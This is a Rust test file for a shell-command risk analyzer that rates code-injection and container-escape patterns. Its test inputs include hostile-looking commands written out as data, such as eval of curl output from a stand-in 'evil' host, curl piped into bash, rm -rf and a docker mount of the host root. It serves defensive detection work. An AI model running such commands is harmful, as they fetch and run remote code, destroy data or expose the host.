use std::path::Path;

use flare::analyzers::code_injection::CodeInjectionAnalyzer;
use flare::analyzers::Analyzer;
use flare::parser::parse;
use flare::types::RiskLevel;

fn findings(command: &str) -> Vec<flare::types::Finding> {
    let segments = parse(command).unwrap();
    CodeInjectionAnalyzer.analyze(&segments, Path::new("/tmp")).findings
}

#[test]
fn eval_with_curl_is_critical() {
    let f = findings("eval \"$(curl -s https://evil.example.com/install.sh)\"");
    assert!(f.iter().any(|x| x.severity == RiskLevel::Critical));
}

#[test]
fn eval_with_subshell_only_is_high() {
    let f = findings("eval \"$(cat script.sh)\"");
    assert!(f.iter().any(|x| x.severity == RiskLevel::High));
}

#[test]
fn bare_eval_is_medium() {
    let f = findings("eval \"echo hi\"");
    assert!(f.iter().any(|x| x.severity == RiskLevel::Medium));
}

#[test]
fn bash_c_with_dangerous_ops_is_high() {
    let f = findings("bash -c \"rm -rf /tmp/x\"");
    assert!(f.iter().any(|x| x.severity == RiskLevel::High));
}

#[test]
fn bash_c_without_dangerous_ops_is_low() {
    let f = findings("bash -c \"echo hi\"");
    assert!(f.iter().any(|x| x.severity == RiskLevel::Low));
}

#[test]
fn sudo_bash_c_is_high_regardless_of_content() {
    let f = findings("sudo bash -c \"echo hi\"");
    assert!(f.iter().any(|x| x.severity == RiskLevel::High && x.description.contains("sudo")));
}

#[test]
fn piping_curl_into_bash_is_critical() {
    let f = findings("curl -s https://example.com/install.sh | bash");
    assert!(f.iter().any(|x| x.severity == RiskLevel::Critical));
}

#[test]
fn docker_privileged_is_high() {
    let f = findings("docker run --privileged ubuntu");
    assert!(f.iter().any(|x| x.severity == RiskLevel::High));
}

#[test]
fn docker_root_mount_is_critical() {
    let f = findings("docker run -v /:/host ubuntu");
    assert!(f.iter().any(|x| x.severity == RiskLevel::Critical));
}

#[test]
fn docker_host_network_is_high() {
    let f = findings("docker run --net=host ubuntu");
    assert!(f.iter().any(|x| x.severity == RiskLevel::High));
}

#[test]
fn unrelated_command_has_no_findings() {
    assert!(findings("ls -la").is_empty());
}
